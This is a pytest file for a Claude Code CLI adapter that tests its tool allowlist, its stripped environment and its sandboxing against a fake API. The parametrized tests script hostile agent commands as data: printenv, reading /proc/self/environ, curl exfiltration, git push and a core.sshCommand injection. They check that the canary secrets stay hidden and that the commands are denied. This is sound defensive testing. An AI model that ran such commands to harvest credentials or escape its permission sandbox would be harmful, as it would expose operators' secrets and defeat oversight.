"""The Claude Code CLI adapter: argv and env tables, and the real binary against the fake API."""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import node_tool
from fakes.anthropic_api import FakeAnthropicAPI, api_error, text, tool_use
from playbook.adapters import claude_cli
from playbook.adapters.claude_cli import (
    ALLOWED_TOOLS,
    DEV_TOOLS,
    DISALLOWED_TOOLS,
    ClaudeTextModel,
    FileScope,
    build_argv,
    build_env,
    parse_result,
    run_claude,
)
from playbook.errors import ModelOutputError, ModelUnavailableError, QuotaExhaustedError
from playbook.ports import ModelRequest, TextModel
from playbook.settings import Settings

CLAUDE = node_tool(".bin", "claude")
CANARIES = {
    "GITHUB_TOKEN": "ghs_canaryGITHUBtoken0123456789",
    "BMAD_DISPATCH_TOKEN": "github_pat_canaryDISPATCH0123",
    "BMAD_PLAYBOOK_TOKEN": "github_pat_canaryPLAYBOOK0123",
    "GEMINI_API_KEY": "AIzaCanaryGeminiKey0123456789",
    "SOME_OTHER_SECRET": "canary-other-secret-0123",
}
needs_claude = pytest.mark.skipif(not CLAUDE.exists() and not os.environ.get("CI"), reason="npm ci has not run")


@pytest.fixture
def fake() -> Iterator[FakeAnthropicAPI]:
    with FakeAnthropicAPI() as api:
        yield api


def make_settings(tmp_path: Path, fake: FakeAnthropicAPI | None = None, **overrides: str) -> Settings:
    values = {
        "claude_bin": str(CLAUDE),
        "anthropic_api_key": "sk-ant-test-key",
        "anthropic_base_url": fake.base_url if fake else "",
        **overrides,
    }
    return Settings(root=tmp_path, extra={"PATH": os.environ.get("PATH", os.defpath), "LANG": "C.UTF-8"},
                    **values)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- argv / env tables


def test_allowed_tools_are_exact_and_never_reach_the_network_or_git() -> None:
    # File tools are never allowed bare: the CLI honours a bare Read/Edit outside the working directory.
    assert not {"Read", "Write", "Edit", "MultiEdit", "Glob", "Grep", "LS"} & set(ALLOWED_TOOLS)
    assert set(DEV_TOOLS) == {"Read", "Write", "Edit", "Glob", "Grep", "Bash"}
    bash = [t for t in ALLOWED_TOOLS if t.startswith("Bash")]
    assert bash and all(t.startswith("Bash(") and t.endswith(":*)") for t in bash)
    assert "Bash" not in ALLOWED_TOOLS  # a bare Bash would allow every command
    for banned in ("git", "curl", "wget", "ssh", "npm", "pip", "sh ", "bash", "python", "env", "printenv", "cat", "ls"):
        assert not any(t[len("Bash("):].startswith(banned) for t in bash), banned
    assert {"WebFetch", "WebSearch", "Bash(git push:*)", "Bash(git commit:*)", "Bash(curl:*)"} <= set(DISALLOWED_TOOLS)


def test_build_argv_carries_the_exact_tool_lists() -> None:
    argv = build_argv("/bin/claude", "implement it", allowed_tools=ALLOWED_TOOLS, disallowed_tools=DISALLOWED_TOOLS,
                      max_turns=7, append_system_prompt="rules", model="sonnet")
    assert argv[:3] == ["/bin/claude", "-p", "implement it"]
    assert argv[argv.index("--output-format") + 1] == "json"
    assert argv[argv.index("--max-turns") + 1] == "7"
    assert argv[argv.index("--allowedTools") + 1] == ",".join(ALLOWED_TOOLS)
    assert argv[argv.index("--disallowedTools") + 1] == ",".join(DISALLOWED_TOOLS)
    assert argv[argv.index("--append-system-prompt") + 1] == "rules"
    assert argv[argv.index("--model") + 1] == "sonnet"
    assert "--dangerously-skip-permissions" not in argv


def test_build_argv_without_prompt_reads_stdin_and_omits_unset_options() -> None:
    argv = build_argv("claude", None, allowed_tools=(), max_turns=1)
    assert argv[:2] == ["claude", "-p"] and argv[2].startswith("--")
    assert "--model" not in argv and "--allowedTools" not in argv and "--append-system-prompt" not in argv


def test_build_env_is_a_fresh_minimal_dict(tmp_path: Path) -> None:
    settings = Settings.from_env(
        {"PATH": "/usr/bin:/bin", "LANG": "en_US.UTF-8", "HOME": "/root", "ANTHROPIC_API_KEY": "sk-ant-x",
         "ANTHROPIC_BASE_URL": "http://127.0.0.1:9", **CANARIES},
        root=tmp_path,
    )
    env = build_env(settings, tmp_path / "home")
    assert env == {
        "PATH": "/usr/bin:/bin", "LANG": "en_US.UTF-8", "HOME": str(tmp_path / "home"),
        "ANTHROPIC_API_KEY": "sk-ant-x", "ANTHROPIC_BASE_URL": "http://127.0.0.1:9",
        "DISABLE_TELEMETRY": "1", "DISABLE_AUTOUPDATER": "1", "DISABLE_ERROR_REPORTING": "1",
        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
    }


def test_build_env_passes_the_oauth_token_when_there_is_no_api_key(tmp_path: Path) -> None:
    settings = Settings.from_env({"PATH": "/bin", "CLAUDE_CODE_OAUTH_TOKEN": "oat-x"}, root=tmp_path)
    env = build_env(settings, tmp_path)
    assert env["CLAUDE_CODE_OAUTH_TOKEN"] == "oat-x" and "ANTHROPIC_API_KEY" not in env
    assert "ANTHROPIC_BASE_URL" not in env


# --------------------------------------------------------------------------- unavailable


def test_missing_binary_names_the_fix(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, claude_bin=str(tmp_path / "nope"))
    with pytest.raises(ModelUnavailableError) as err:
        run_claude("hi", cwd=tmp_path, settings=settings, max_turns=1, timeout_seconds=30)
    assert "npm ci" in str(err.value) and "PLAYBOOK_CLAUDE_BIN" in str(err.value)


def test_not_on_path_or_in_node_modules_names_the_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(claude_cli, "_PACKAGE_ROOT", tmp_path)
    settings = Settings(root=tmp_path, anthropic_api_key="k", extra={"PATH": str(tmp_path)})
    with pytest.raises(ModelUnavailableError, match="not installed") as err:
        ClaudeTextModel(settings)
    assert "npm ci" in str(err.value)


def test_missing_credentials_name_both_variables(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, anthropic_api_key="")
    with pytest.raises(ModelUnavailableError) as err:
        ClaudeTextModel(settings)
    assert "ANTHROPIC_API_KEY" in str(err.value) and "CLAUDE_CODE_OAUTH_TOKEN" in str(err.value)


def test_binary_in_playbook_node_modules_is_found_first(tmp_path: Path) -> None:
    bin_dir = tmp_path / "node_modules" / ".bin"
    bin_dir.mkdir(parents=True)
    fake_bin = bin_dir / "claude"
    fake_bin.write_text("#!/bin/sh\nexit 0\n")
    fake_bin.chmod(fake_bin.stat().st_mode | stat.S_IXUSR)
    settings = Settings(root=tmp_path, extra={"PATH": "/usr/bin:/bin"})
    assert claude_cli.find_claude(settings) == str(fake_bin)


# --------------------------------------------------------------------------- output parsing


def _script(tmp_path: Path, body: str) -> str:
    path = tmp_path / "claude"
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return str(path)


def test_unparseable_output_is_a_model_output_error_with_the_stderr_tail(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, claude_bin=_script(
        tmp_path, "echo 'not json'\necho 'segfault in renderer' >&2\necho 'sk-ant-test-key leaked' >&2\nexit 3\n"))
    with pytest.raises(ModelOutputError) as err:
        run_claude("hi", cwd=tmp_path, settings=settings, max_turns=1, timeout_seconds=30)
    assert "segfault in renderer" in str(err.value) and "exit 3" in str(err.value)
    assert "sk-ant-test-key" not in str(err.value)  # secrets are redacted from the tail


def test_parse_result_reads_an_error_during_execution_result(tmp_path: Path) -> None:
    stdout = ('warning: something\n{"type":"result","subtype":"error_during_execution","is_error":true,'
              '"num_turns":3,"session_id":"s1","total_cost_usd":0.5,"usage":{"input_tokens":10,'
              '"cache_read_input_tokens":5,"output_tokens":2},"errors":["tool crashed"]}\n')
    result = parse_result(stdout, "", 1, make_settings(tmp_path))
    assert (result.subtype, result.is_error, result.num_turns, result.session_id) == (
        "error_during_execution", True, 3, "s1")
    assert (result.usage.input_tokens, result.usage.output_tokens, result.total_cost_usd) == (15, 2, 0.5)
    assert result.incomplete_reason == "error: tool crashed"


def test_timeout_is_reported_as_an_incomplete_result(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, claude_bin=_script(tmp_path, "exec sleep 30\n"))
    result = run_claude("hi", cwd=tmp_path, settings=settings, max_turns=1, timeout_seconds=0.5)
    assert result.timed_out and result.incomplete_reason == "timeout"


# --------------------------------------------------------------------------- the real binary


@pytest.mark.claude
@needs_claude
def test_real_cli_writes_the_scripted_file_and_the_result_is_parsed(
    tmp_path: Path, fake: FakeAnthropicAPI
) -> None:
    repo = tmp_path / "apps"
    repo.mkdir()
    target = repo / "stacks" / "dns-pihole" / "docker-compose.yml"
    fake.script([tool_use("Write", {"file_path": str(target), "content": "services:\n  pihole: {}\n"}),
                 text("wrote the stack")])

    result = run_claude("implement the story", cwd=repo, settings=make_settings(tmp_path, fake), max_turns=5,
                        timeout_seconds=120, scope=FileScope(write_prefixes=("stacks/dns-pihole/",)))

    assert target.read_text() == "services:\n  pihole: {}\n"
    assert (result.subtype, result.is_error, result.result, result.num_turns) == ("success", False,
                                                                                  "wrote the stack", 2)
    assert result.session_id and result.incomplete_reason is None
    assert result.usage.input_tokens > 0 and result.total_cost_usd > 0
    assert fake.remaining == 0 and fake.exhausted == 0
    first = fake.main_requests()[0]
    assert first["stream"] is True
    assert "implement the story" in str(first["messages"])
    assert "created successfully" in fake.tool_results()[0]


@pytest.mark.claude
@needs_claude
def test_real_cli_tool_calls_see_no_github_token_or_other_secrets(
    tmp_path: Path, fake: FakeAnthropicAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-canary-model-key")
    monkeypatch.setenv("ANTHROPIC_BASE_URL", fake.base_url)
    monkeypatch.setenv("PLAYBOOK_CLAUDE_BIN", str(CLAUDE))
    settings = Settings.from_env(os.environ, root=tmp_path)
    assert settings.github_token == CANARIES["GITHUB_TOKEN"]  # the parent really holds it
    fake.script([tool_use("Bash", {"command": "printenv"}),
                 tool_use("Read", {"file_path": "/proc/self/environ"}),
                 tool_use("Bash", {"command": "cat /proc/self/environ"}),
                 text("done")])

    run_claude("show the environment", cwd=tmp_path, settings=settings, max_turns=6, timeout_seconds=120,
               allowed_tools=(*ALLOWED_TOOLS, "Bash(printenv:*)"))

    printed, *others = fake.tool_results()
    assert f"HOME={tmp_path}" not in printed and "HOME=" in printed  # it ran, with the private HOME
    assert "DISABLE_TELEMETRY=1" in printed
    everything = "\n".join(fake.tool_results()) + str([r.body for r in fake.requests])
    for name, value in CANARIES.items():
        assert value not in everything, name
    assert "GITHUB_TOKEN" not in everything


@pytest.mark.claude
@needs_claude
@pytest.mark.parametrize(
    "command",
    ["curl http://127.0.0.1:{port}/exfil", "git push origin main", "ls; curl http://127.0.0.1:{port}/exfil",
     "git -c core.sshCommand='curl http://127.0.0.1:{port}/exfil' fetch", "wget http://127.0.0.1:{port}/exfil"],
)
def test_real_cli_refuses_network_and_git_commands(tmp_path: Path, fake: FakeAnthropicAPI, command: str) -> None:
    port = fake.base_url.rsplit(":", 1)[1]
    fake.script([tool_use("Bash", {"command": command.format(port=port)}), text("done")])

    run_claude("do it", cwd=tmp_path, settings=make_settings(tmp_path, fake), max_turns=4, timeout_seconds=120)

    assert not any("/exfil" in r.path for r in fake.requests)
    [answer] = fake.tool_results()
    assert "approval" in answer.lower() or "denied" in answer.lower() or "permission" in answer.lower(), answer


@pytest.mark.claude
@needs_claude
def test_real_cli_max_turns_is_incomplete_and_keeps_files(tmp_path: Path, fake: FakeAnthropicAPI) -> None:
    fake.script([tool_use("Write", {"file_path": str(tmp_path / f"stacks/s{i}.yml"), "content": f"n: {i}\n"})
                 for i in range(5)])

    result = run_claude("go", cwd=tmp_path, settings=make_settings(tmp_path, fake), max_turns=2,
                        timeout_seconds=120, scope=FileScope(write_prefixes=("stacks/",)))

    assert (result.subtype, result.is_error, result.incomplete_reason) == ("error_max_turns", True, "turn limit")
    assert (tmp_path / "stacks" / "s0.yml").read_text() == "n: 0\n"


@pytest.mark.claude
@needs_claude
def test_real_cli_api_error_is_an_error_result(tmp_path: Path, fake: FakeAnthropicAPI) -> None:
    fake.script([api_error(400, "max_tokens: unsupported value")])

    result = run_claude("go", cwd=tmp_path, settings=make_settings(tmp_path, fake), max_turns=2,
                        timeout_seconds=120)

    assert result.is_error and result.api_error_status == 400
    assert result.incomplete_reason is not None and "unsupported value" in result.incomplete_reason


@pytest.mark.claude
@needs_claude
def test_real_cli_long_prompt_travels_on_stdin(tmp_path: Path, fake: FakeAnthropicAPI) -> None:
    prompt = "MARKER-START " + "context line\n" * 12_000 + " MARKER-END"
    assert len(prompt) > claude_cli.ARGV_PROMPT_LIMIT
    fake.script([text("read it all")])

    result = run_claude(prompt, cwd=tmp_path, settings=make_settings(tmp_path, fake), max_turns=1,
                        timeout_seconds=120)

    assert result.result == "read it all"
    assert "MARKER-END" in str(fake.main_requests()[0]["messages"])


# --------------------------------------------------------------------------- TextModel


@pytest.mark.claude
@needs_claude
def test_text_model_answers_in_one_turn_without_tools(tmp_path: Path, fake: FakeAnthropicAPI) -> None:
    fake.script([text("# Architecture\n\nPi-hole behind Traefik.")])
    model = ClaudeTextModel(make_settings(tmp_path, fake), timeout_seconds=120)
    assert isinstance(model, TextModel)

    response = model.generate(ModelRequest(prompt="Write the architecture", model="sonnet", skill="architecture",
                                           system="You are the architect."))

    assert response.text.startswith("# Architecture") and response.provider == "claude-cli"
    assert response.model == "sonnet" and response.usage.output_tokens > 0
    [request] = fake.main_requests()
    assert not request.get("tools")
    assert "You are the architect." in str(request["system"])
    assert "sonnet" in request["model"]


@pytest.mark.claude
@needs_claude
@pytest.mark.parametrize(("status", "error"), [(429, QuotaExhaustedError), (400, ModelOutputError)])
def test_text_model_maps_api_errors(tmp_path: Path, fake: FakeAnthropicAPI, status: int, error: type) -> None:
    fake.script([api_error(status, "nope", "rate_limit_error" if status == 429 else "invalid_request_error")])
    model = ClaudeTextModel(make_settings(tmp_path, fake), timeout_seconds=120)
    with pytest.raises(error):
        model.generate(ModelRequest(prompt="x", model="sonnet", skill="architecture"))
